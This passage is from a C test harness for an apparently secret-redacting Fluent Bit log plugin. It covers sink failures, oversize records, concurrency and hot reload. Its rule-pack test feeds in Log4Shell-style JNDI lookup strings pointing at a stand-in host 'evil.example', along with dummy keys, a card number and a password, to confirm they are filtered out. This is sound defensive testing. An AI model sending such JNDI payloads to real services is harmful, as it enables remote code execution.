        /* empty chunk: nothing to do */
        CHECK_INT(p_flush(ra, sb.data, 0, tag_a), FBP_OK);
    }

    /* ---- sink failures: retry by default, error with fail_mode error ---- */
    if (access("/dev/full", W_OK) == 0) {
        memset(&c, 0, sizeof(c));
        c.keys[0] = "config";  c.vals[0] = rules;
        c.keys[1] = "clean";   c.vals[1] = "/dev/full";
        memset(&d, 0, sizeof(d));
        d.keys[0] = "config";  d.vals[0] = rules;
        d.keys[1] = "clean";   d.vals[1] = "/dev/full";
        d.keys[2] = "fail_mode"; d.vals[2] = "error";
        rc_full = init_instance(&c, &rc);
        CHECK_INT(rc, FBP_OK);
        rd_full = init_instance(&d, &rc);
        CHECK_INT(rc, FBP_OK);
        msgpack_sbuffer_clear(&sb);
        rec_v2_kv(&sb, 1700000040, 0, 8, "msg", "to a full disk");
        log_clear();
        CHECK_INT(p_flush(rc_full, sb.data, sb.size, tag_a), FBP_RETRY);
        CHECK(log_contains("will be retried"));
        CHECK_INT(p_flush(rd_full, sb.data, sb.size, tag_a), FBP_ERROR);
        CHECK_INT(p_exit(rc_full), FBP_OK);
        CHECK_INT(p_exit(rd_full), FBP_OK);
    }

    /* ---- a value that cannot be scanned fails closed (max_record 64) ---- */
    {
        fake_ins_t g;
        void *rg;
        static char limits[512];
        char longval[200];

        snprintf(limits, sizeof(limits), "%s/rules-limits.yaml", argv[2]);
        memset(&g, 0, sizeof(g));
        g.keys[0] = "config";  g.vals[0] = limits;
        g.keys[1] = "clean";   g.vals[1] = path_in("g-clean.jsonl");
        g.keys[2] = "quarantine"; g.vals[2] = path_in("g-quar.jsonl");
        g.keys[3] = "audit";   g.vals[3] = path_in("g-audit.jsonl");
        rg = init_instance(&g, &rc);
        CHECK_INT(rc, FBP_OK);
        if (rg != NULL) {
            memset(longval, 'x', sizeof(longval));
            memcpy(longval + 150, " Bearer toolong_secret_1", 25);   /* NUL included */
            msgpack_sbuffer_clear(&sb);
            rec_v2_kv(&sb, 1700000070, 0, 8, "msg", "short one");
            rec_v2_kv(&sb, 1700000071, 0, 8, "msg", longval);
            log_clear();
            CHECK_INT(p_flush(rg, sb.data, sb.size, tag_a), FBP_OK);
            CHECK_INT(last_counts(&cnt), 0);
            CHECK_INT(cnt.in, 2);
            CHECK_INT(cnt.clean, 1);
            CHECK_INT(cnt.quar, 1);
            CHECK(!file_has(path_in("g-clean.jsonl"), "toolong_secret_1"));
            CHECK(file_has(path_in("g-quar.jsonl"), "\"failure\":\"oversize\""));
            CHECK(file_has(path_in("g-audit.jsonl"), "\"failure\":\"oversize\""));
            CHECK_INT(p_exit(rg), FBP_OK);
        }
    }

    /* ---- the bundled rule packs on a 24 KiB stack ---- */
    if (argc > 3) {
        fake_ins_t e;
        void *re;
        size_t used = 0;
        static const char *lines[] = {
            "GET /x Authorization: Bearer abcdef0123456789abcdef",
            "user=bob password=hunter2hunter2 ok",
            "aws AKIAIOSFODNN7EXAMPLE key",
            "${jndi:ldap://evil.example/a}",
            "${${lower:j}ndi:${lower:l}dap://x/y}",
            "card 4111 1111 1111 1111 exp 12/30",
            "-----BEGIN RSA PRIVATE KEY-----",
            "nothing to see here at all, just a long enough line of plain text",
        };
        size_t i;

        memset(&e, 0, sizeof(e));
        e.keys[0] = "config";  e.vals[0] = argv[3];
        e.keys[1] = "clean";   e.vals[1] = path_in("e-clean.jsonl");
        e.keys[2] = "quarantine"; e.vals[2] = path_in("e-quar.jsonl");
        e.keys[3] = "audit";   e.vals[3] = path_in("e-audit.jsonl");
        re = init_instance(&e, &rc);
        CHECK_INT(rc, FBP_OK);
        if (re != NULL) {
            msgpack_sbuffer_clear(&sb);
            for (i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
                rec_v2_kv(&sb, 1700000060 + (uint32_t)i, 0, 32, "log", lines[i]);
            }
            log_clear();
            rc = flush_on_small_stack(re, sb.data, sb.size, tag_a, &used);
            CHECK_INT(rc, FBP_OK);
            fprintf(stderr, "  flush with %s on a %d-byte stack used %zu bytes\n", argv[3],
                    SMALL_STACK, used);
            CHECK_INT(last_counts(&cnt), 0);
            CHECK_INT(cnt.in, (long)(sizeof(lines) / sizeof(lines[0])));
            CHECK_INT(cnt.in, cnt.clean + cnt.quar + cnt.drop);
            CHECK(!file_has(path_in("e-clean.jsonl"), "abcdef0123456789abcdef"));
            CHECK(!file_has(path_in("e-clean.jsonl"), "jndi"));
            CHECK(file_has(path_in("e-clean.jsonl"), "just a long enough line"));
            CHECK(jsonl_valid(path_in("e-clean.jsonl")) != 0);
            CHECK_INT(p_exit(re), FBP_OK);
        }
    }

    /* ---- Workers N: concurrent flushes of one instance ---- */
    {
        flusher_t f[4];
        pthread_t th[4];
        long before = file_lines(path_in("a-clean.jsonl"));
        int i, bad = 0;

        msgpack_sbuffer_clear(&sb);
        for (i = 0; i < 20; i++) {
            rec_v2_kv(&sb, 1700000050 + (uint32_t)i, 0, i % 2 ? 32 : 8, "msg",
                      "worker line Bearer concurrent_secret_77 end");
        }
        for (i = 0; i < 4; i++) {
            f[i].rctx = ra;
            f[i].data = sb.data;
            f[i].len = sb.size;
            f[i].rounds = 25;
            f[i].bad = 0;
            pthread_create(&th[i], NULL, flusher_main, &f[i]);
        }
        for (i = 0; i < 4; i++) {
            pthread_join(th[i], NULL);
            bad += f[i].bad;
        }
        CHECK_INT(bad, 0);
        CHECK_INT(file_lines(path_in("a-clean.jsonl")), before + 4 * 25 * 20);
        CHECK(!file_has(path_in("a-clean.jsonl"), "concurrent_secret_77"));
    }

    /* ---- every line of every sink is JSON ---- */
    {
        const char *files[] = { "a-clean.jsonl", "a-quar.jsonl", "a-audit.jsonl",
                                "b-clean.jsonl" };
        size_t i;

        for (i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
            int v = jsonl_valid(path_in(files[i]));

            if (v < 0) {
                fprintf(stderr, "  python3 not found: JSON validity not checked\n");
                break;
            }
            if (!v) {
                fprintf(stderr, "  invalid JSON line in %s\n", files[i]);
            }
            CHECK(v == 1);
        }
    }
    CHECK(stat(path_in("a-quar.jsonl"), &st) == 0 && (st.st_mode & 0777) == 0600);

    /* ---- shutdown, in Fluent Bit's order ---- */
    CHECK_INT(p_exit(ra), FBP_OK);
    CHECK_INT(p_exit(rb), FBP_OK);
    CHECK_INT(p_exit(NULL), FBP_OK);
    p_unregister(NULL);
    dlclose(so);

    /* ---- hot reload: the .so is loaded again, Register and Init run again ---- */
    so = dlopen(argv[1], RTLD_LAZY);
    CHECK(so != NULL);
    if (so != NULL) {
        unsigned char def[48];

        *(void **)&p_register = dlsym(so, "FLBPluginRegister");
        *(void **)&p_init = dlsym(so, "FLBPluginInit");
        *(void **)&p_flush = dlsym(so, "FLBPluginFlushCtx");
        *(void **)&p_exit = dlsym(so, "FLBPluginExitCtx");
        *(void **)&p_unregister = dlsym(so, "FLBPluginUnregister");
        CHECK_INT(p_register(def), 0);
        ra = init_instance(&a, &rc);
        CHECK_INT(rc, FBP_OK);
        msgpack_sbuffer_clear(&sb);
        rec_v2_kv(&sb, 1700000080, 0, 8, "msg", "after reload Bearer reload_secret_000");
        CHECK_INT(p_flush(ra, sb.data, sb.size, tag_a), FBP_OK);
        CHECK(file_has(path_in("a-clean.jsonl"), "after reload Bearer [REDACTED:test-bearer]"));
        CHECK_INT(p_exit(ra), FBP_OK);
        p_unregister(def);
        dlclose(so);
    }
    msgpack_sbuffer_destroy(&sb);

    if (n_failed == 0 && getenv("TEST_KEEP") == NULL) {
        char cmd[600];

        snprintf(cmd, sizeof(cmd), "rm -rf '%s'", tmpdir);
        if (system(cmd) != 0) {
            fprintf(stderr, "  could not remove %s\n", tmpdir);
        }
    }
    else {
        fprintf(stderr, "  outputs kept in %s\n", tmpdir);
    }
    printf("%d passed, %d failed\n", n_passed, n_failed);
    return n_failed == 0 ? 0 : 1;
}
